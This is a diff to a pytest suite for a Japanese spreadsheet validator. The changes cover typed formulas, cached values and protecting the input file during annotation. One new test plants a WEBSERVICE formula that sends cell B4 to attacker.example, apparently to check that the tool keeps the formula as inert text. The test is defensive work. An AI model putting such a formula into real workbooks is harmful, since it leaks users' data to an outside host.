@@ -286,22 +286,26 @@ def test_defined_name_pointing_into_another_sheet_is_not_followed(book, tmp_path
     assert only(result, "T219").cell == "D4"
 
 
-def test_formula_typed_into_an_input_is_read_from_its_result_with_a_warning(book, tmp_path):
+@pytest.mark.parametrize("cached", [129129, None])
+def test_formula_typed_into_a_number_input_is_an_error_and_neither_it_nor_its_result_is_read(book, tmp_path, cached):
     ref = cell("costs.2023.budget")
-    book.formula(ref, "100000+29129", cached=129129)
+    book.formula(ref, "100000+29129", cached=cached)
     result = check_file(book.save(tmp_path / "typed_formula.xlsx"))
-    v303 = only(result, "V303")
-    assert (v303.cell, v303.field, v303.severity) == (ref, "costs.2023.budget", "warning")
-    assert "=100000+29129" in v303.message and "129,129" in v303.message and "値を入力" in v303.message
-    assert result.record == seed_record("088")
+    v310 = only(result, "V310")
+    assert (v310.cell, v310.field, v310.severity) == (ref, "costs.2023.budget", "error")
+    assert "=100000+29129" in v310.message and "未入力として扱います" in v310.message and "値を入力" in v310.message
+    assert "129,129" not in v310.message and not result.ok
+    assert LAYOUT.get(result.record, "costs.2023.budget") is None  # the cached 129129 is never taken
+    assert "V302" not in codes(result) and "R501" not in codes(result)  # said once
 
 
-def test_formula_typed_into_an_input_without_a_result_is_an_error(book, tmp_path):
-    ref = cell("costs.2023.budget")
-    book.formula(ref, "100000+29129")
-    result = check_file(book.save(tmp_path / "typed_formula_nocache.xlsx"))
-    v302 = only(result, "V302")
-    assert v302.cell == ref and "=100000+29129" in v302.message and not result.ok
+def test_formula_typed_into_a_text_input_is_kept_as_its_text(book, tmp_path):
+    ref = cell("results.achievements")
+    book.formula(ref, 'WEBSERVICE("http://attacker.example/?"&B4)', cached="取得した文章")
+    result = check_file(book.save(tmp_path / "typed_webservice.xlsx"))
+    v310 = only(result, "V310")
+    assert v310.is_error and "文字として記録しました" in v310.message
+    assert result.record["results"]["achievements"] == '=WEBSERVICE("http://attacker.example/?"&B4)'
 
 
 # --------------------------------------------------------------------------- 2. formulas and caches
@@ -567,7 +571,7 @@ def test_dash_in_a_required_cell_is_not_reported_twice(book, tmp_path):
 def test_history_kept_as_reported_differs_from_its_breakdown(tmp_path):
     record = seed_record("088")
     record["costs"][0]["settlement"] = 80000  # published figure that does not add up
-    data, _ = build(record, LAYOUT, RATES, "test")
+    data, *_ = build(record, LAYOUT, RATES, "test")
     result = check_file(Parts(data).save(tmp_path / "history.xlsx"))
     r502 = only(result, "R502")
     assert (r502.cell, r502.field, r502.severity) == ("F24", "costs.2020.settlement", "warning")
@@ -614,7 +618,7 @@ def test_dash_score_outside_law_assigned_projects(book, tmp_path, key):
 def test_dash_score_for_a_law_assigned_project(tmp_path, key, allowed):
     record = seed_record("088") | {"category": "法定受託事務"}
     record["evaluation"][key] = None
-    data, _ = build(record, LAYOUT, RATES, "test")
+    data, *_ = build(record, LAYOUT, RATES, "test")
     parts = Parts(data)
     parts.string(cell(f"evaluation.{key}"), "-")
     result = check_file(parts.save(tmp_path / "law.xlsx"))
@@ -1023,10 +1027,12 @@ def test_annotate_onto_the_input_itself_is_refused(book, tmp_path, capsys):
     assert info.value.finding.code == "A701"
     assert sha256(src) == before
     other_spelling = tmp_path / "." / "same.xlsx"
-    assert main(["check", str(src), "--annotate", str(other_spelling), "--json"]) == 1
-    report = json.loads(capsys.readouterr().out)
-    a701 = next(f for f in report["findings"] if f["code"] == "A701")
-    assert "元のファイルと同じ" in a701["message"] and "別のファイル名" in a701["message"]
+    capsys.readouterr()
+    # the command refuses before it reads or writes anything (outputs.guard): exit 2
+    assert main(["check", str(src), "--annotate", str(other_spelling), "--json"]) == 2
+    captured = capsys.readouterr()
+    assert captured.out == "" and "[O901]" in captured.err and "同じファイル" in captured.err
+    assert "Traceback" not in captured.err
     assert sha256(src) == before
 
 
@@ -1039,14 +1045,12 @@ def test_annotate_through_a_link_to_the_input_leaves_the_input_alone(book, tmp_p
     out = tmp_path / "link.xlsx"
     if link == "symlink":
         out.symlink_to(src)
-        with pytest.raises(AnnotateError) as info:
-            annotate(src, check_file(src), out)
-        assert info.value.finding.code == "A701"
-    else:  # a second name for the same file: the copy replaces the name, never the content
+    else:  # a second name for the same file (same inode) is the same file
         os.link(src, out)
+    with pytest.raises(AnnotateError) as info:
         annotate(src, check_file(src), out)
-        assert FINDINGS_SHEET in openpyxl.load_workbook(out).sheetnames
-    assert sha256(src) == before
+    assert info.value.finding.code == "A701"
+    assert sha256(src) == before and sha256(out) == before
 
 
 def test_annotate_an_unreadable_file(tmp_path, capsys):
